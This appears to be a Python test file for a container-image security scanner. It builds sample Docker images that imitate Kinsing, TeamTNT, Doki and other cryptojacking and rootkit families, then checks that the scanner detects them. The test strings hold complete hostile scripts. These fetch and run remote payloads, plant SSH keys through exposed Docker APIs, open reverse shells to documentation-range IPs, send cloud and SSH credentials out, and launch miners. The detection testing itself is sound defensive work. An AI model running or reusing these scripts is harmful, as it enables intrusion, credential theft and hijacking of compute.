#!/usr/bin/env python3
"""Images in the shape of families on record, whole rather than trick by trick: unsafe, with the way to the code. Inert:
text and configuration with documentation addresses, and programs that are headers without code."""
import base64
import json
import os
import struct

import support
from support import UNSAFE, hullcheck

BASE = support.layer({
    "etc/os-release": "ID=debian\nVERSION_ID=12\nPRETTY_NAME=\"Debian 12\"\n",
    "var/lib/dpkg/status": "Package: base-files\nStatus: install ok installed\nArchitecture: amd64\nVersion: 12.4\n\n",
    "bin/sh": ("\x7fELF", 0o755),
})


def key_line():
    blob = base64.b64encode(struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + os.urandom(32)).decode()
    return f"ssh-ed25519 {blob} root@localhost"


def unsafe(name, layers, config, wanted, start=None):
    """`wanted`: rules of which at least one must be a threat; `start`: how one chain begins."""
    path = support.docker_archive(support.scratch() / f"{name}.tar", [BASE, *layers], config, tag=f"sample/{name}:latest")
    answer = hullcheck("image", path, "--format", "json", database=support.database())
    assert answer.code == UNSAFE, (name, answer)
    threats = answer.json["threats"]
    rules = {threat["rule"] for threat in threats}
    assert rules & set(wanted), (name, rules)
    assert all(threat["chain"] for threat in threats if threat["rule"] in wanted), (name, threats)
    if start:
        assert any(threat["chain"][0].startswith(start) for threat in threats if threat["chain"]), (name, threats)
    return answer.json


def kinsing():
    script = """#!/bin/bash
ulimit -n 65535
rm -rf /var/log/syslog
chattr -iua /tmp/
ufw disable
iptables -F
pkill -f kdevtmpfsi
pkill -f xmrig
pkill -f minerd
pkill -f cryptonight
setenforce 0
service apparmor stop
systemctl disable aliyun.service
if [ -f /usr/bin/curl ]; then curl -s -o /var/tmp/kinsing http://198.51.100.27/kinsing; else wget -q -O /var/tmp/kinsing http://198.51.100.27/kinsing; fi
chmod +x /var/tmp/kinsing
/var/tmp/kinsing &
(crontab -l 2>/dev/null; echo "* * * * * wget -q -O - http://198.51.100.27/d.sh | sh > /dev/null 2>&1") | crontab -
history -c
"""
    unsafe("kinsing-script", [support.layer({"d.sh": (script, 0o755)})], {"Cmd": ["/bin/bash", "/d.sh"]},
           ["D02", "M15", "P02", "H08"], "Cmd")
    cron = "* * * * * root wget -q -O - http://198.51.100.27/d.sh | sh > /dev/null 2>&1\n"
    unsafe("kinsing-cron", [support.layer({"etc/cron.d/zz": cron, "var/tmp/kinsing": ("\x7fELF", 0o777)})],
           {"Cmd": ["/bin/bash", "-c", "apt-get update && apt-get install -y wget cron;service cron start; wget -q -O - "
                    "198.51.100.27/d.sh | sh;tail -f /dev/null"]}, ["D01", "P01"], "Cmd")


def teamtnt():
    script = f"""#!/bin/bash
export HISTFILE=/dev/null
unset HISTFILE
apt-get install -y masscan docker.io jq
KEY='{key_line()}'
for range in $(seq 1 200); do
  masscan $range.0.0.0/8 -p2375,2376,2377,4243,4244 --rate=50000 | awk '{{print $6}}' | while read ip; do
    docker -H tcp://$ip:2375 run -d --privileged --net host --pid host --restart=always -v /:/host alpine chroot /host bash -c \\
      "mkdir -p /root/.ssh; echo '$KEY' >> /root/.ssh/authorized_keys; chattr +i /root/.ssh/authorized_keys"
  done
done
curl -s http://203.0.113.50/sh/setup_moneroocean_miner.sh | bash
curl http://169.254.169.254/latest/meta-data/iam/security-credentials/ > /tmp/c; curl -F "data=@/tmp/c" http://203.0.113.50/up.php
cat /root/.aws/credentials /root/.docker/config.json /root/.ssh/id_rsa /root/.git-credentials /root/.kube/config | curl -d @- http://203.0.113.50/in
"""
    unsafe("teamtnt", [support.layer({"root/dockerd": (script, 0o755)})], {"Entrypoint": ["/root/dockerd"]},
           ["D01", "H05", "H03", "B08", "H10", "P09"], "Entrypoint")
    unit = "[Unit]\nDescription=cron\n[Service]\nExecStart=/usr/bin/[kworker] -o 203.0.113.50:3333 -u x.y --donate-level=1 -a rx/0\nRestart=always\n"
    unit += "[Install]\nWantedBy=multi-user.target\n"
    unsafe("teamtnt-unit", [support.layer({"etc/systemd/system/multi-user.target.wants/scan.service": unit, "usr/bin/[kworker]":
                                           ("\x7fELF", 0o755), "usr/lib/systemd/systemd": ("\x7fELF", 0o755)})],
           {"Cmd": ["/usr/lib/systemd/systemd"]}, ["M06"], "Cmd")


def doki():
    command = ("chroot /host sh -c 'echo \"*/1 * * * * root /usr/bin/curl -sk https://a1b2c3.tunnel.example.com/i | sh\" "
               "> /etc/cron.d/sys; sleep infinity'")
    unsafe("doki", [support.layer({"usr/bin/curl": ("\x7fELF", 0o755)})], {"Cmd": ["sh", "-c", command]}, ["H03", "H02", "P02"], "Cmd")


def docker123321():
    config = json.dumps({"algo": "cryptonight", "pools": [{"url": "stratum+tcp://203.0.113.7:3333", "user": "x", "pass": "x"}],
                         "donate-level": 1})
    picture = """#!/bin/bash
ps aux | grep -v grep | grep 'stratum\\|cryptonight\\|/tmp/' | awk '{print $2}' | xargs kill -9
pkill minerd; pkill -f xmrig; pkill -f cryptonight
crontab -r
curl -o /var/tmp/config.json http://203.0.113.7:8220/222.json
curl -o /var/tmp/suppoie http://203.0.113.7:8220/gcc
chmod 777 /var/tmp/suppoie
sysctl -w vm.nr_hugepages=`grep -c processor /proc/cpuinfo`
nohup /var/tmp/suppoie -c /var/tmp/config.json >/dev/null 2>&1 &
"""
    unsafe("d123-mysql", [support.layer({"logo3.jpg": (picture, 0o755)})], {"Cmd": ["bash", "/logo3.jpg"]}, ["D02", "D06", "M15"], "Cmd")
    unsafe("d123-tomcat", [], {"Cmd": ["/bin/bash", "-c", "/usr/bin/python -c 'import socket,subprocess,os;s=socket.socket();s.connect"
                                       "((\"203.0.113.7\",8443));[os.dup2(s.fileno(),i) for i in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'"]},
           ["B02", "B03"], "Cmd")
    unsafe("d123-kk", [], {"Entrypoint": ["sh", "-c", "/bin/bash -i >& /dev/tcp/203.0.113.7/443 0>&1"]}, ["B01"], "Entrypoint")
    unsafe("d123-data", [], {"Cmd": ["sh", "-c", f"echo '{key_line()}' >> /mnt/root/.ssh/authorized_keys; sleep 100000"]}, ["H02", "B08"], "Cmd")
    unsafe("d123-cron", [], {"Cmd": ["sh", "-c", "echo -e '*/1 * * * * curl -s http://203.0.113.7:8220/logo3.jpg | bash -s' >> "
                                     "/mnt/etc/crontab && sleep infinity"]}, ["H02"], "Cmd")
    unsafe("d123-miner", [support.layer({"var/tmp/config.json": config, "var/tmp/bbb": ("\x7fELF", 0o755)})],
           {"Entrypoint": ["/var/tmp/bbb", "-c", "/var/tmp/config.json"]}, ["M05", "M01"])


def preload_rootkit():
    library = shared_library(["readdir", "readdir64"], ["dlsym"])
    unsafe("preload", [support.layer({"etc/ld.so.preload": "/lib/libgcwrap.so\n", "lib/libgcwrap.so": (library, 0o755)})],
           {"Cmd": ["/bin/sh"]}, ["B15"])
    unsafe("preload-env", [support.layer({"usr/local/lib/libprocesshider.so": (library, 0o755)})],
           {"Cmd": ["/bin/sh"], "Env": ["LD_PRELOAD=/usr/local/lib/libprocesshider.so"]}, ["B17", "B16"])


def shared_library(exports, imports):
    """A 64-bit ELF with a dynamic symbol table and nothing else."""
    names = b"\0"
    symbols = bytes(24)
    for name in exports + imports:
        place = len(names)
        names += name.encode() + b"\0"
        symbols += struct.pack("<IBBHQQ", place, 0x12, 0, 0 if name in imports else 1, 0 if name in imports else 0x1000, 16)
    section_names = b"\0.dynsym\0.dynstr\0.dynamic\0.shstrtab\0"
    header, program = 64, 56
    at_symbols = header + 2 * program
    at_names = at_symbols + len(symbols)
    dynamic_at = at_names + len(names) + (-(at_names + len(names)) % 8)
    dynamic = b"".join(struct.pack("<QQ", tag, value) for tag, value in
                       ((5, at_names), (6, at_symbols), (10, len(names)), (11, 24), (0, 0)))
    at_section_names = dynamic_at + len(dynamic)
    sections_at = at_section_names + len(section_names) + (-(at_section_names + len(section_names)) % 8)
    total = sections_at + 5 * 64
    data = bytearray(total)
    data[0:64] = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\x02\x01\x01" + bytes(9), 3, 62, 1, 0, header, sections_at, 0, 64, program,
                             2, 64, 5, 4)
    data[64:120] = struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, total, total, 4096)
    data[120:176] = struct.pack("<IIQQQQQQ", 2, 6, dynamic_at, dynamic_at, dynamic_at, len(dynamic), len(dynamic), 8)
    data[at_symbols:at_symbols + len(symbols)] = symbols
    data[at_names:at_names + len(names)] = names
    data[dynamic_at:dynamic_at + len(dynamic)] = dynamic
    data[at_section_names:at_section_names + len(section_names)] = section_names
    rows = ((0, 0, 0, 0, 0, 0, 0), (1, 11, at_symbols, len(symbols), 2, 1, 24), (9, 3, at_names, len(names), 0, 0, 0),
            (17, 6, dynamic_at, len(dynamic), 2, 0, 16), (26, 3, at_section_names, len(section_names), 0, 0, 0))
    for i, (name, kind, offset, size, link, info, entry) in enumerate(rows):
        data[sections_at + i * 64:sections_at + (i + 1) * 64] = struct.pack(
            "<IIQQQQIIQQ", name, kind, 2 if offset else 0, offset, offset, size, link, info, 8, entry)
    return bytes(data)


support.need_shared()
support.run(docker123321, kinsing, teamtnt, doki, preload_rootkit)
